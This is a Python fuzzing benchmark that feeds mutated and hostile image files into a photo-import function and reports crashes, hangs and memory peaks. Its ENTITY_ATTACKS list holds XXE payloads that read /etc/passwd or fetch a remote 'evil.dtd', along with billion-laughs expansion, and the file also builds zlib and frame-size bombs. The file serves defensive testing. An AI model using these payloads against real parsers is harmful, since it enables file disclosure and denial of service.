"""Seeded fuzzing of the photo import: hostile files through `desk photo import`'s path.

Generates N files (default 1,200) from agency-like JPEG, PNG, TIFF and WebP seeds (and,
when ../shared is there, real files of the public corpus) with: truncations (cut, and cut
with an end marker put back), byte flips in APP1 (EXIF and XMP), APP13 and PNG iTXt,
bad segment and chunk lengths, deep XMP, entity attacks and size bombs (huge frame
sizes, zlib bombs, absurd IIM / Extended XMP lengths, megabytes of fill bytes, tiny
chunks by the hundred thousand). Each file is imported with photo_import.import_file
into a fresh database by a worker process, one at a time, and classified:

    imported   stored, with its warnings
    refused    one-line refusal (InputError); the database must be unchanged
    BUG        ReaderBug or any exception escaping import_file: a traceback
    HANG       no answer within --hang seconds (the worker is killed and restarted)

Prints the counts, the slowest files, the peak memory (the worker's peak resident set
size while importing each file, reset between files on Linux; it includes the ~70 MB of
Python, Pillow and SQLAlchemy) and the file that reached it;
exits 1 on any traceback, hang or stored refused file.

    python -m benchmarks.photo_fuzz [--files 1200] [--seed 15] [--hang 10] [--keep DIR]
"""

from __future__ import annotations

import argparse
import io
import json
import random
import resource
import select
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path
from typing import Callable, Iterator

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from PIL import Image  # noqa: E402

from tests.photo_factory import (
    agency_jpeg,
    app1_xmp,
    extended_xmp_segments,
    iim_block,
    insert_after_app0,
    photoshop_resource,
    png_chunk,
    png_with_chunks,
    raw_profile,
    segment,
    text_chunk,
    tiff_bytes,
    xmp_packet,
)

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "fixtures" / "photo-corpus"
CREDIT_XMP = {"dc:creator": ["Paul Sancya"], "photoshop:Credit": "AP", "dc:description": "Caption. (AP Photo/Paul Sancya)",
              "photoshop:DateCreated": "2024-04-15T09:30:00+09:00", "dc:subject": ["one", "two"]}
CREDIT_IIM = {80: ["Paul Sancya"], 110: "AP", 115: "AP", 120: "Caption. (AP Photo/Paul Sancya)", 55: "20240415",
              60: "093000+0900", 25: ["one", "two"]}


# --- seeds -----------------------------------------------------------------------------


def _noise_jpeg(width: int, height: int, progressive: bool = False) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 50).convert("RGB").save(out, "JPEG", quality=85, progressive=progressive)
    return out.getvalue()


def seeds() -> dict[str, bytes]:
    exif = Image.Exif()
    exif[274], exif[315], exif[270] = 6, "Camera Owner", "OLYMPUS DIGITAL CAMERA"
    base = _noise_jpeg(160, 120)
    out = io.BytesIO()
    Image.open(io.BytesIO(base)).save(out, "JPEG", quality=85, exif=exif.tobytes())
    jpeg = agency_jpeg(CREDIT_IIM, xmp=CREDIT_XMP)
    jpeg = insert_after_app0(out.getvalue(), [app1_xmp(xmp_packet(CREDIT_XMP)),
                                               segment(0xED, b"Photoshop 3.0\x00" + photoshop_resource(0x0404, iim_block(CREDIT_IIM)))])
    png = png_with_chunks(
        before=[text_chunk("iTXt", "XML:com.adobe.xmp", xmp_packet(CREDIT_XMP)),
                text_chunk("zTXt", "Raw profile type iptc", raw_profile("iptc", iim_block(CREDIT_IIM)))],
        after=[text_chunk("iTXt-z", "XML:com.adobe.xmp", xmp_packet({"photoshop:Source": "AP"}))], width=64, height=48)
    block = iim_block(CREDIT_IIM)
    tiff = tiff_bytes(48, 32, tags=[(33723, "LONG", block + b"\x00" * (-len(block) % 4)),
                                    (700, "UNDEFINED", xmp_packet(CREDIT_XMP)), (315, "ASCII", b"Camera Owner\x00")])
    webp_out = io.BytesIO()
    Image.open(io.BytesIO(base)).save(webp_out, "WEBP", xmp=xmp_packet(CREDIT_XMP), exif=exif.tobytes())
    found = {"agency.jpg": jpeg, "agency-progressive.jpg": _noise_jpeg(96, 64, progressive=True),
             "agency.png": png, "scan.tif": tiff, "web.webp": webp_out.getvalue()}
    if CORPUS.is_dir():
        for path in sorted(CORPUS.iterdir()):
            if path.suffix.lower() in (".jpg", ".jpeg", ".png", ".tif", ".tiff", ".webp") and path.stat().st_size < 400_000:
                found[path.name] = path.read_bytes()
    return found


# --- mutations ---------------------------------------------------------------------------


def _segments(data: bytes) -> list[tuple[int, int, int]]:
    """(offset, marker, length) of a JPEG's header segments."""
    found, pos = [], 2
    while pos + 4 <= len(data) and data[pos] == 0xFF:
        marker = data[pos + 1]
        length = struct.unpack(">H", data[pos + 2 : pos + 4])[0]
        found.append((pos, marker, length))
        if marker == 0xDA:
            break
        pos += 2 + length
    return found


def _png_chunks(data: bytes) -> list[tuple[int, bytes, int]]:
    found, pos = [], 8
    while pos + 8 <= len(data):
        length = struct.unpack(">I", data[pos : pos + 4])[0]
        found.append((pos, data[pos + 4 : pos + 8], length))
        pos += 12 + length
    return found


def flip_in(rng: random.Random, data: bytes, start: int, end: int, flips: int) -> bytes:
    out = bytearray(data)
    end = min(end, len(out))
    for _ in range(rng.randint(1, flips)):
        if end > start:
            out[rng.randrange(start, end)] = rng.randrange(256)
    return bytes(out)


def truncate(rng: random.Random, data: bytes) -> bytes:
    cut = data[: rng.randrange(1, len(data))]
    return cut + b"\xff\xd9" if data[:2] == b"\xff\xd8" and rng.random() < 0.5 else cut


def flip_app(rng: random.Random, data: bytes) -> bytes:
    if data[:2] == b"\xff\xd8":
        apps = [(o, m, n) for o, m, n in _segments(data) if m in (0xE1, 0xED)]
        if apps:
            o, _, n = rng.choice(apps)
            return flip_in(rng, data, o + 4, o + 2 + n, 12)
    if data[:4] == b"\x89PNG":
        texts = [(o, n) for o, k, n in _png_chunks(data) if k in (b"iTXt", b"zTXt", b"tEXt")]
        if texts:
            o, n = rng.choice(texts)
            return flip_in(rng, data, o + 8, o + 8 + n, 12)
    return flip_in(rng, data, 0, min(len(data), 4096), 12)


def bad_length(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    if data[:2] == b"\xff\xd8":
        segs = _segments(data)
        if segs:
            o, _, _ = rng.choice(segs)
            struct.pack_into(">H", out, o + 2, rng.choice([0, 1, 2, 3, 0xFFFF, rng.randrange(65536)]))
    elif data[:4] == b"\x89PNG":
        chunks = _png_chunks(data)
        if chunks:
            o, _, _ = rng.choice(chunks)
            struct.pack_into(">I", out, o, rng.choice([0, 0x7FFFFFFF, 0xFFFFFFFF, rng.randrange(1 << 32)]))
    elif data[:2] in (b"II", b"MM"):
        order = "<" if data[:2] == b"II" else ">"
        first = struct.unpack_from(order + "I", data, 4)[0]
        if first + 2 < len(data):
            count = struct.unpack_from(order + "H", data, first)[0]
            if count:
                at = first + 2 + 12 * rng.randrange(count)
                if at + 12 <= len(data):
                    struct.pack_into(order + "I", out, at + 4, rng.choice([0xFFFFFFFF, 0x7FFFFFFF, rng.randrange(1 << 32)]))
    else:
        return flip_in(rng, data, 0, min(64, len(data)), 4)
    return bytes(out)


def deep_xmp(rng: random.Random, _data: bytes) -> bytes:
    levels = rng.choice([100, 800, 4000, 9000, 60_000, 300_000])
    tag = rng.choice(["a", "rdf:Bag", "rdf:li"])
    inner = f"<{tag}>" * levels + "x" + f"</{tag}>" * levels
    packet = xmp_packet({"photoshop:Credit": "AFP"}, extra_xml=f"<photoshop:Headline>{inner}</photoshop:Headline>")
    if len(packet) < 65000 and rng.random() < 0.5:
        return agency_jpeg({110: "AFP"}, extra_segments=[app1_xmp(packet)])
    return png_with_chunks(before=[text_chunk("iTXt-z", "XML:com.adobe.xmp", packet)])


ENTITY_ATTACKS = [
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://example.invalid/evil.dtd">',
    '<!DOCTYPE x [<!ELEMENT x ANY>]>',
]


def entities(rng: random.Random, _data: bytes) -> bytes:
    doctype = rng.choice(ENTITY_ATTACKS)
    value = rng.choice(["&d;", "&e;", "plain", "&undefined;"])
    packet = xmp_packet({"photoshop:Credit": value}).replace(b"<x:xmpmeta", doctype.encode() + b"<x:xmpmeta", 1)
    if rng.random() < 0.5:
        return agency_jpeg({110: "AP"}, extra_segments=[app1_xmp(packet)])
    return png_with_chunks(before=[text_chunk(rng.choice(["iTXt", "zTXt", "tEXt"]), "XML:com.adobe.xmp", packet)])


def _with_sof(data: bytes, width: int, height: int) -> bytes:
    out = bytearray(data)
    for o, m, _ in _segments(data):
        if 0xC0 <= m <= 0xCF and m not in (0xC4, 0xC8, 0xCC):
            struct.pack_into(">HH", out, o + 5, height, width)
    return bytes(out)


def _zlib_bomb(megabytes: int) -> bytes:
    """zlib data inflating to ``megabytes`` of spaces, made without holding them."""
    packer = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()


def bomb(rng: random.Random, data: bytes) -> bytes:
    kind = rng.randrange(9)
    if kind == 0:
        return _with_sof(_noise_jpeg(32, 24, progressive=rng.random() < 0.5),
                         rng.choice([65535, 9400, 30000, 1]), rng.choice([65535, 9400, 30000, 1]))
    if kind == 1:
        ihdr = struct.pack(">IIBBBBB", rng.choice([1, 100_000, 0x7FFFFFFF]), rng.choice([89_000_000, 100_000, 1]),
                           rng.choice([8, 16]), rng.choice([0, 2, 6]), 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + png_chunk(b"IEND", b"")
    if kind == 2:
        return png_with_chunks(before=[png_chunk(b"zTXt", b"XML:com.adobe.xmp\x00\x00" + _zlib_bomb(rng.choice([32, 64, 200])))])
    if kind == 3:
        iim = bytes((0x1C, 2, 120)) + (0x8004).to_bytes(2, "big") + rng.randrange(1 << 32).to_bytes(4, "big") + b"x" * 100
        return insert_after_app0(_noise_jpeg(32, 24), [segment(0xED, b"Photoshop 3.0\x00" + photoshop_resource(0x0404, iim))])
    if kind == 4:
        guid = "0123456789ABCDEF0123456789ABCDEF"
        main = xmp_packet({"photoshop:Credit": "Getty"}, extra_xml=f"<xmpNote:HasExtendedXMP>{guid}</xmpNote:HasExtendedXMP>")
        chunk = bytearray(extended_xmp_segments(b"<x/>" * 100, guid)[0])
        struct.pack_into(">I", chunk, 4 + 35 + 32, rng.randrange(1 << 32))
        return insert_after_app0(_noise_jpeg(32, 24), [app1_xmp(main), bytes(chunk)])
    if kind == 5:
        plain = _noise_jpeg(48, 32)
        at = _segments(plain)[1][0]
        return plain[:at] + b"\xff" * rng.choice([1 << 20, 8 << 20, 20 << 20]) + plain[at:]
    if kind == 6:
        many = png_chunk(b"tEXt", b"k\x00v") * rng.choice([50_000, 400_000])
        return png_with_chunks(before=[many])
    if kind == 7:
        return tiff_bytes(8, 6, tags=[(33723, "UNDEFINED", iim_block({120: "x" * 30000}) * rng.choice([10, 300]))])
    width, height = rng.choice([(65535, 65535), (100_000, 1), (1, 100_000), (20000, 20000)])
    data = bytearray(tiff_bytes(8, 6))
    struct.pack_into("<H", data, 8 + 2 + 8, width & 0xFFFF)
    struct.pack_into("<H", data, 8 + 2 + 12 + 8, height & 0xFFFF)
    return bytes(data)


MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "truncate": truncate, "flip-app": flip_app, "bad-length": bad_length, "deep-xmp": deep_xmp,
    "entities": entities, "bomb": bomb,
}
# How often each is drawn: the structural ones need many tries to hit something.
WEIGHTS = {"truncate": 4, "flip-app": 6, "bad-length": 4, "deep-xmp": 1, "entities": 1, "bomb": 2}


def generate(seed: int, count: int) -> Iterator[tuple[str, str, bytes]]:
    rng = random.Random(seed)
    bases = seeds()
    names = sorted(bases)
    kinds = [k for k, w in WEIGHTS.items() for _ in range(w)]
    for i in range(count):
        kind = rng.choice(kinds)
        base = rng.choice(names)
        yield f"{i:05d}-{kind}-{base}", kind, MUTATIONS[kind](rng, bases[base])


# --- the worker: one process importing file after file -----------------------------------


def worker(db_path: str) -> int:
    from desk.core.photos import importing as photo_import
    from desk.core.store.db import open_database
    from desk.core.errors import DeskError

    db = open_database(Path(db_path))
    for line in sys.stdin:
        path = Path(line.rstrip("\n"))
        before = _count(db_path)
        _reset_peak()
        started = time.perf_counter()
        try:
            photo_import.import_file(db, path)
            outcome, detail = "imported", ""
        except photo_import.ReaderBug as exc:
            outcome, detail = "BUG", str(exc)
        except DeskError as exc:
            outcome, detail = "refused", str(exc)
        except BaseException as exc:  # noqa: BLE001 - a traceback is what this benchmark counts
            outcome, detail = "BUG", f"{type(exc).__name__}: {exc}"
        seconds = time.perf_counter() - started
        stored = _count(db_path) - before
        if outcome == "refused" and stored:
            outcome = "STORED-REFUSED"
        peak = _peak()
        print(json.dumps({"file": path.name, "outcome": outcome, "detail": detail[:300], "seconds": seconds,
                          "peak": peak, "multiline": "\n" in detail}), flush=True)
    return 0


def _reset_peak() -> None:
    # Linux: writing 5 to clear_refs resets the peak resident set size (VmHWM), which
    # makes the peak that of this file alone.
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pass


def _peak() -> int:
    """This process's peak resident set size in bytes (since the last reset)."""
    try:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def _count(db_path: str) -> int:
    with sqlite3.connect(db_path) as conn:
        try:
            return conn.execute("SELECT count(*) FROM photos").fetchone()[0]
        except sqlite3.OperationalError:
            return 0


# --- the parent: feeds files, watches for hangs --------------------------------------------


def run(files: list[Path], db_path: Path, hang_s: float) -> list[dict]:
    results: list[dict] = []
    pending = list(files)
    while pending:
        proc = subprocess.Popen([sys.executable, "-m", "benchmarks.photo_fuzz", "--worker", str(db_path)],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                cwd=Path(__file__).resolve().parents[1], bufsize=1)
        assert proc.stdin is not None and proc.stdout is not None
        try:
            while pending:
                path = pending[0]
                proc.stdin.write(f"{path}\n")
                proc.stdin.flush()
                ready, _, _ = select.select([proc.stdout], [], [], hang_s)
                line = proc.stdout.readline() if ready else ""
                pending.pop(0)
                if not line:
                    results.append({"file": path.name, "outcome": "HANG" if not ready else "BUG",
                                    "detail": "no answer" if not ready else "the worker died", "seconds": hang_s, "peak": 0})
                    break
                results.append(json.loads(line))
        finally:
            proc.kill()
            proc.wait()
            if proc.stderr is not None:
                noise = proc.stderr.read().strip()
                if noise:
                    results.append({"file": "(stderr)", "outcome": "NOISE", "detail": noise[:500], "seconds": 0, "peak": 0})
    return results


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=1200)
    parser.add_argument("--seed", type=int, default=15)
    parser.add_argument("--hang", type=float, default=10.0, help="seconds without an answer that count as a hang")
    parser.add_argument("--keep", type=Path, help="write the fuzzed files here and keep them")
    parser.add_argument("--worker", metavar="DB", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.worker:
        return worker(args.worker)

    tmp = Path(tempfile.mkdtemp(prefix="desk-fuzz-"))
    folder = args.keep or tmp / "files"
    folder.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    files = []
    kinds: dict[str, int] = {}
    for name, kind, data in generate(args.seed, args.files):
        path = folder / name
        path.write_bytes(data)
        files.append(path)
        kinds[kind] = kinds.get(kind, 0) + 1
    made = time.perf_counter() - started
    try:
        results = run(files, tmp / "fuzz.sqlite", args.hang)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    elapsed = time.perf_counter() - started - made

    counts: dict[str, int] = {}
    for r in results:
        counts[r["outcome"]] = counts.get(r["outcome"], 0) + 1
    bad = [r for r in results if r["outcome"] in ("BUG", "HANG", "STORED-REFUSED", "NOISE") or r.get("multiline")]
    peak = max(results, key=lambda r: r["peak"])
    print(f"fuzzed files: {len(files)} (seed {args.seed}; {', '.join(f'{k} {v}' for k, v in sorted(kinds.items()))}); "
          f"made in {made:.1f} s, imported in {elapsed:.1f} s")
    print("outcomes: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    print(f"tracebacks {counts.get('BUG', 0)}, hangs {counts.get('HANG', 0)}, "
          f"stored refused files {counts.get('STORED-REFUSED', 0)}, stderr noise {counts.get('NOISE', 0)}, "
          f"multi-line refusals {sum(1 for r in results if r.get('multiline'))}")
    print(f"peak memory (worker RSS) {peak['peak'] / 1e6:.0f} MB, reached at {peak['file']}")
    print("slowest files:")
    for r in sorted(results, key=lambda r: r["seconds"], reverse=True)[:5]:
        print(f"  {r['seconds']:6.2f} s  {r['outcome']:<8} {r['file']}  {r['detail'][:100]}")
    for r in bad[:20]:
        print(f"PROBLEM {r['outcome']} {r['file']}: {r['detail']}")
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
